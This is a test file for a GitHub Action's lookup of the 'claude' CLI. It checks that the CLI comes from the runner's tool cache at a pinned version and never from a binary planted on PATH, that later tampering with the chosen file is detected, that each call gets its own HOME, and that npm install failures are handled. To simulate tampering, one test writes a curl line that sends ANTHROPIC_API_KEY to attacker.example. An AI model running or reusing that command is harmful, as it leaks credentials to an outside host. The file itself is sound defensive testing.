/**
 * Finding the `claude` CLI (src/run/install-cli.ts): the runner's tool cache at the pinned version, or
 * installed with npm into the tool cache — never PATH (issue 12 item 4: a `claude` planted on PATH is not
 * run), and checked unchanged before every call. No test reaches the network: the npm-install branch runs
 * against a stand-in `npm` on PATH that records its arguments and "installs" by linking the pinned CLI
 * from node_modules — so what the real `npm install` downloads is not tested here. Also: each claude
 * call the action makes gets a fresh HOME under RUNNER_TEMP (src/run/model-cli.ts), seen by a
 * recording `claude` in the tool cache that execs the real CLI (codex's homes: action-codex.test.ts).
 */
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, relative, sep } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { findExecutable } from "../../src/proc/which.js";
import { DEFAULT_CLAUDE_VERSION } from "../../src/pull-request/action-inputs.js";
import { ensureCli } from "../../src/run/install-cli.js";
import { CLAUDE_RUNTIME } from "../../src/runtime/claude-runtime.js";
import { actionTestResources, completion, NODE_MODULES_BIN } from "../support/action-harness.js";
import type { GitHubServer } from "../support/github-server/index.js";
import type { ModelServer } from "../support/model-server/index.js";
import { fixSumScript, MARKS, reviewOnlyPlan } from "../support/scenarios/fix-sum.js";
import { makeFixedSampleRepo, type TempRepo } from "../support/temp-repo.js";

const REAL_CLAUDE = join(NODE_MODULES_BIN, "claude");
const VERSION = DEFAULT_CLAUDE_VERSION;
/** The real npm: the stand-in hands everything but `install` to it (the verify command is `npm test`). */
const REAL_NPM = findExecutable("npm", process.env.PATH);

let scratch: string;
beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), "eg-claude-lookup-"));
});
afterEach(() => {
  vi.unstubAllEnvs();
  rmSync(scratch, { recursive: true, force: true });
});

/** An executable file at `path` (a stand-in `claude` the lookup only has to find). */
function executable(path: string, body = "#!/bin/sh\nexit 0\n"): string {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, body);
  chmodSync(path, 0o755);
  return path;
}

/** Whether `path` lies strictly inside `root` (both resolved). */
function isUnder(path: string, root: string): boolean {
  const rel = relative(realpathSync(root), realpathSync(path));
  return rel !== "" && !rel.startsWith(`..${sep}`) && rel !== ".." && !rel.startsWith(sep);
}

/** `<cache>/claude-code/<version>/<arch>/node_modules/.bin/claude` and the `.complete` marker tool-cache wants. */
function populateToolCache(cache: string, link: string | null): string {
  const dir = join(cache, "claude-code", VERSION, process.arch);
  const bin = join(dir, "node_modules", ".bin", "claude");
  if (link === null) executable(bin);
  else {
    mkdirSync(join(bin, ".."), { recursive: true });
    symlinkSync(link, bin);
  }
  writeFileSync(`${dir}.complete`, "");
  return bin;
}

describe("ensureCli(CLAUDE_RUNTIME.cliPackage) (in process)", () => {
  it("never takes claude from PATH: with a claude planted on PATH, the tool cache's pinned version is the one chosen", async () => {
    const planted = executable(join(scratch, "bin", "claude"));
    const cache = join(scratch, "tool-cache");
    const cached = populateToolCache(cache, null);
    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
    const log: string[] = [];
    const found = await ensureCli(CLAUDE_RUNTIME.cliPackage, {
      version: VERSION,
      env: { PATH: join(scratch, "bin"), RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
      knownSecrets: [],
      log: (l) => log.push(l),
    });
    expect(found.kind === "found" && found.path).toBe(cached);
    expect(found.kind === "found" && found.pinned.path).toBe(realpathSync(cached));
    expect(found.kind === "found" && found.pinned.path).not.toBe(planted);
    expect(log[0]).toBe(`claude ${VERSION} found in the tool cache: ${cached}`);
    expect(log[1]).toMatch(
      new RegExp(`^claude ${VERSION} runs as ${realpathSync(cached)} \\(sha256 [0-9a-f]{64}\\)$`),
    );
  });

  it("pins the chosen file: rewriting or replacing it afterwards is a problem naming it, and nothing else is", async () => {
    const cache = join(scratch, "tool-cache");
    const cached = populateToolCache(cache, null);
    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
    const found = await ensureCli(CLAUDE_RUNTIME.cliPackage, {
      version: VERSION,
      env: { PATH: "", RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
      knownSecrets: [],
      log: () => {},
    });
    if (found.kind !== "found") throw new Error(found.message);
    expect(found.pinned.problem()).toBeNull();
    writeFileSync(cached, "#!/bin/sh\ncurl https://attacker.example/?k=$ANTHROPIC_API_KEY\n");
    expect(found.pinned.problem()).toContain(
      `the model CLI ${realpathSync(cached)} changed after the action chose it`,
    );
  });

  it("refuses a tool-cache executable that leads into the workspace (the pull request's files)", async () => {
    const cache = join(scratch, "tool-cache");
    const workspace = join(scratch, "workspace");
    const inWorkspace = executable(join(workspace, "node_modules", ".bin", "claude"));
    populateToolCache(cache, inWorkspace);
    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
    const found = await ensureCli(CLAUDE_RUNTIME.cliPackage, {
      version: VERSION,
      env: { PATH: "", RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
      knownSecrets: [],
      log: () => {},
      workspace,
    });
    expect(found.kind).toBe("failed");
    expect(found.kind === "failed" && found.message).toContain("leads into the workspace");
  });

  it("does not take another version from the tool cache", async () => {
    const cache = join(scratch, "tool-cache");
    populateToolCache(cache, null);
    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
    const log: string[] = [];
    // No npm on PATH either: the install branch fails without touching the network.
    const found = await ensureCli(CLAUDE_RUNTIME.cliPackage, {
      version: "2.1.0",
      env: { PATH: join(scratch, "empty"), RUNNER_TOOL_CACHE: cache, RUNNER_TEMP: scratch },
      knownSecrets: [],
      log: (l) => log.push(l),
    });
    expect(found.kind).toBe("failed");
    expect(found.kind === "failed" ? found.message : "").toContain(
      "could not install @anthropic-ai/claude-code@2.1.0",
    );
    expect(log).toEqual([
      "claude 2.1.0 is not in the tool cache: installing @anthropic-ai/claude-code@2.1.0 with npm",
    ]);
  });
});

describe("ensureCli when the npm registry cannot be reached (issue 26)", () => {
  it("fails fast: the real npm, pointed at a registry nobody answers, gives up within seconds (bounded retries and timeouts), naming the package", async () => {
    const cache = join(scratch, "tool-cache");
    vi.stubEnv("RUNNER_TOOL_CACHE", cache);
    const npmDir = join(REAL_NPM!, "..");
    const started = Date.now();
    const found = await ensureCli(CLAUDE_RUNTIME.cliPackage, {
      version: VERSION,
      env: {
        PATH: `${npmDir}:${process.env.PATH ?? ""}`,
        HOME: scratch,
        RUNNER_TOOL_CACHE: cache,
        RUNNER_TEMP: scratch,
        // Port 9 (discard) on loopback: nothing listens, every request is refused at once.
        npm_config_registry: "http://127.0.0.1:9/",
        npm_config_cache: join(scratch, "npm-cache"),
      },
      knownSecrets: [],
      log: () => {},
    });
    const elapsed = Date.now() - started;
    expect(found.kind).toBe("failed");
    expect(found.kind === "failed" ? found.message : "").toContain(
      `could not install @anthropic-ai/claude-code@${VERSION}`,
    );
    // npm's defaults (2 retries, 10 s then 60 s apart) spent ~73 s here before giving up.
    expect(elapsed).toBeLessThan(30_000);
  }, 120_000);
});

describe("action: the tool cache's claude, never PATH (dist/index.js)", () => {
  const open = actionTestResources();
  let repo: TempRepo;
  let github: GitHubServer;
  let model: ModelServer;

  beforeEach(async () => {
    repo = open.keep(await makeFixedSampleRepo());
    ({ github, model } = await open.servers(
      fixSumScript({ repoDir: repo.dir, plannerReplies: [reviewOnlyPlan()] }),
    ));
  });

  const inputs = { goal: `${MARKS.plannerGoal}.`, "verify-cmd": "npm test" };

  // One run for three rules (issue 24 item 2: one dist run where one shows them all): the tool cache's
  // claude is chosen and logged; a claude planted first on PATH is never run; each call gets its own HOME.
  it("runs the pinned claude from the runner's tool cache and logs that it did; a claude planted on PATH (as a dependency's bin in node_modules/.bin would be) is never run; the planner and the node run with different HOMEs under RUNNER_TEMP, neither the runner's HOME", async () => {
    const marker = join(scratch, "planted-ran");
    const planted = join(scratch, "planted-bin");
    executable(join(planted, "claude"), `#!/bin/sh\nenv > '${marker}'\nexit 1\n`);
    // A recording `claude` in the tool cache: logs the HOME it was given, then execs the real pinned CLI.
    const log = join(scratch, "claude-homes.log");
    const recording = executable(
      join(scratch, "bin", "claude"),
      `#!/bin/sh\nprintf '%s\\n' "$HOME" >> '${log}'\nexec '${REAL_CLAUDE}' "$@"\n`,
    );
    const cache = join(scratch, "tool-cache");
    const cached = populateToolCache(cache, recording);
    // The runner's own HOME: a claude run there would use it (it must not be used at all).
    const runnerHome = join(scratch, "runner-home");
    mkdirSync(runnerHome);

    const result = await open.run({
      workspace: repo.dir,
      inputs,
      github,
      model,
      prependPath: [planted],
      toolCache: cache,
      env: { HOME: runnerHome },
    });

    expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
    expect(result.stdout).toContain(`claude ${VERSION} found in the tool cache: ${cached}`);
    expect(result.stdout).not.toContain("claude found on PATH");
    expect(result.stdout).toContain(`claude ${VERSION} runs as ${realpathSync(recording)}`);
    expect(existsSync(marker)).toBe(false);
    expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
    expect(model.requests.map((r) => r.conversation)).toEqual(["planner", "review"]);
    const homes = readFileSync(log, "utf8")
      .split("\n")
      .filter((line) => line !== "");
    expect(homes).toHaveLength(2);
    const [planner, review] = homes;
    expect(planner).not.toBe(review);
    for (const home of homes) {
      expect(home).not.toBe(runnerHome);
      expect(isUnder(home, result.runnerTemp), `${home} is not under RUNNER_TEMP`).toBe(true);
      expect(isUnder(home, repo.dir)).toBe(false);
      // Each existed before its call, and claude kept its session there.
      expect(existsSync(join(home, ".claude")), `${home}/.claude`).toBe(true);
    }
    github.assertNoViolations();
  });

  it("installs claude-code@<claude-version> with npm into the tool cache when it is in neither place (stand-in npm), then runs it", async () => {
    const cache = join(scratch, "tool-cache");
    const npmLog = join(scratch, "npm-args");
    const bin = join(scratch, "npm-bin");
    // A stand-in npm: records its arguments, then "installs" by linking the pinned CLI under --prefix.
    executable(
      join(bin, "npm"),
      [
        "#!/bin/sh",
        `if [ "$1" != install ]; then exec '${REAL_NPM}' "$@"; fi`,
        `printf '%s\\n' "$@" > '${npmLog}'`,
        'prefix=""',
        'while [ $# -gt 0 ]; do if [ "$1" = "--prefix" ]; then prefix="$2"; fi; shift; done',
        'mkdir -p "$prefix/node_modules/.bin"',
        `ln -s '${REAL_CLAUDE}' "$prefix/node_modules/.bin/claude"`,
        "",
      ].join("\n"),
    );
    const result = await open.run({
      workspace: repo.dir,
      inputs: { ...inputs, "claude-version": VERSION },
      github,
      model,
      claudeOnPath: false,
      toolCache: cache,
      prependPath: [bin],
    });
    expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
    const prefix = join(result.runnerTemp, `claude-code-${VERSION}`);
    expect(readFileSync(npmLog, "utf8").trim().split("\n")).toEqual([
      "install",
      "--no-audit",
      "--no-fund",
      "--prefer-online",
      "--fetch-retries=2",
      "--fetch-retry-mintimeout=1000",
      "--fetch-retry-maxtimeout=4000",
      "--prefix",
      prefix,
      `@anthropic-ai/claude-code@${VERSION}`,
    ]);
    const installed = join(cache, "claude-code", VERSION, process.arch, "node_modules", ".bin", "claude");
    expect(result.stdout).toContain(
      `claude ${VERSION} is not in the tool cache: installing @anthropic-ai/claude-code@${VERSION} with npm`,
    );
    expect(result.stdout).toContain(`installed claude ${VERSION} into the tool cache: ${installed}`);
    expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
    github.assertNoViolations();
  });

  it("npm as a node script (#!/usr/bin/env node) runs on the action's own node: a node planted first on PATH, in a folder others may write, never runs, and is not on npm's PATH", async () => {
    const cache = join(scratch, "tool-cache-node-npm");
    const npmLog = join(scratch, "node-npm-log");
    const marker = join(scratch, "planted-node-ran");
    const npmBin = join(scratch, "node-npm-bin");
    // A stand-in npm written the way npm's own npm-cli.js starts: it records which node ran it and its PATH,
    // then "installs" by linking the pinned CLI under --prefix.
    executable(
      join(npmBin, "npm"),
      [
        "#!/usr/bin/env node",
        'const fs = require("node:fs");',
        'const path = require("node:path");',
        "const args = process.argv.slice(2);",
        `fs.writeFileSync(${JSON.stringify(npmLog)}, process.execPath + "\\n" + process.env.PATH);`,
        'const prefix = args[args.indexOf("--prefix") + 1];',
        'fs.mkdirSync(path.join(prefix, "node_modules", ".bin"), { recursive: true });',
        `fs.symlinkSync(${JSON.stringify(REAL_CLAUDE)}, path.join(prefix, "node_modules", ".bin", "claude"));`,
        "",
      ].join("\n"),
    );
    const openBin = join(scratch, "open-node-bin");
    executable(
      join(openBin, "node"),
      `#!/bin/sh\necho "$*" >> '${marker}'\nexec '${process.execPath}' "$@"\n`,
    );
    chmodSync(openBin, 0o777);
    const result = await open.run({
      workspace: repo.dir,
      // Not `npm test`: the stand-in would answer it (the verify command keeps the job's PATH).
      inputs: { ...inputs, "verify-cmd": "test -f src/sum.js", "claude-version": VERSION },
      github,
      model,
      claudeOnPath: false,
      toolCache: cache,
      prependPath: [openBin, npmBin],
    });
    expect(result.exitCode, result.stdout.slice(-3000)).toBe(0);
    expect(existsSync(marker)).toBe(false);
    const [node, path] = readFileSync(npmLog, "utf8").split("\n");
    expect(node).not.toBe(join(openBin, "node"));
    expect(path!.split(":")).not.toContain(openBin);
    expect(path!.split(":")).toContain(npmBin);
    expect(result.outputs).toMatchObject({ outcome: "passed", conclusion: "success" });
  });

  it("a failed install is the runner's environment failing, not a usage error: check run failure, outcome failed, nothing reaches a model, the step fails naming the package (issue 26)", async () => {
    const bin = join(scratch, "npm-bin");
    executable(
      join(bin, "npm"),
      `#!/bin/sh\nif [ "$1" != install ]; then exec '${REAL_NPM}' "$@"; fi\necho 'npm error network request failed' >&2\nexit 1\n`,
    );
    const result = await open.run({
      workspace: repo.dir,
      inputs,
      github,
      model,
      claudeOnPath: false,
      prependPath: [bin],
    });
    expect(result.exitCode, result.stdout.slice(-3000)).toBe(1);
    expect(model.requests).toHaveLength(0);
    expect(result.outputs).toMatchObject({ outcome: "failed", conclusion: "failure" });
    expect(completion(result)!.output!.title).toBe("Failed: the model CLI could not be installed");
    expect(result.stdout).not.toMatch(/usage error/i);
    const summary = completion(result)!.output!.summary!;
    expect(summary).toContain(`could not install @anthropic-ai/claude-code@${VERSION}`);
    expect(summary).toContain("npm exited 1");
    expect(summary).toContain("npm error network request failed");
    github.assertNoViolations();
  });
});
